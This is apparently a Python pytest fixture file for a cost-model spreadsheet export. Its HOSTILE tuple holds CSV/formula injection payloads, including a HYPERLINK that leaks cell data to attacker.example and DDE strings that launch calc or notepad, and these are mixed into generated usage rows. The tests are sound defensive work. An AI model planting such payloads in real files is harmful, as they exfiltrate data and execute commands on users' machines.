"""Scenarios the export is held to, hostile text, and usage stores for the tests."""

from __future__ import annotations

from datetime import datetime
from pathlib import Path

import duckdb
import pytest

from costmodel.demo import PRESETS, preset
from costmodel.scenario import Scenario, load_scenario

HERE = Path(__file__).parent

HOSTILE = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\x07bell",
    "_x000D_ looks escaped",
)
"""Text a spreadsheet could take for a formula (OWASP CSV injection), plus characters XML cannot carry."""


def scenario_cases() -> list[tuple[str, Scenario]]:
    """Every preset (the demo is one) and the extra scenarios under tests/export/scenarios/."""
    cases = [(stem, preset(stem)) for stem in PRESETS.values()]
    cases += [(p.stem, load_scenario(p)) for p in sorted((HERE / "scenarios").glob("*.json"))]
    return cases


def grouped(case_id: str, *rest: object) -> object:
    """A test parameter of one case that runs on the same xdist worker as the case's other tests
    (`--dist loadgroup`), so the case's workbook is loaded into `formulas` once."""
    return pytest.param(
        case_id, *rest, marks=pytest.mark.xdist_group(case_id), id=":".join(map(str, (case_id, *rest[:1])))
    )


USAGE_COLUMNS = """
    ts TIMESTAMP NOT NULL, provider VARCHAR, model VARCHAR NOT NULL, input_tokens BIGINT NOT NULL,
    cached_input_tokens BIGINT NOT NULL, output_tokens BIGINT NOT NULL, requests BIGINT,
    reported_cost_usd DECIMAL(20, 10), project VARCHAR, "user" VARCHAR, request_id VARCHAR
"""


def make_usage_db(path: Path, rows: list[tuple]) -> Path:
    """A DuckDB file with a `usage_events` table in the shape of `costmodel.usage.records.UsageRecord`."""
    con = duckdb.connect(str(path))
    con.execute(f"CREATE TABLE usage_events ({USAGE_COLUMNS})")
    if rows:
        con.executemany(
            "INSERT INTO usage_events (ts, provider, model, input_tokens, cached_input_tokens, output_tokens, "
            "requests, reported_cost_usd, project) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)",
            rows,
        )
    con.close()
    return path


def usage_rows(*, months: int = 3, hostile: bool = True) -> list[tuple]:
    models = [("openai", "gpt-4o"), ("anthropic", "claude-sonnet-4-5"), (None, "my-finetune")]
    projects = ["search", "support", *(HOSTILE if hostile else ())]
    rows = []
    for m in range(months):
        for k, (prov, model) in enumerate(models):
            for day in (3, 17):
                rows.append(
                    (
                        datetime(2026, 1 + m, day, 10),
                        prov,
                        model if not (hostile and k == 2) else HOSTILE[m % len(HOSTILE)],
                        120_000 * (k + 1),
                        30_000,
                        20_000,
                        100,
                        "1.25",
                        projects[(m + k + day) % len(projects)],
                    )
                )
    return rows
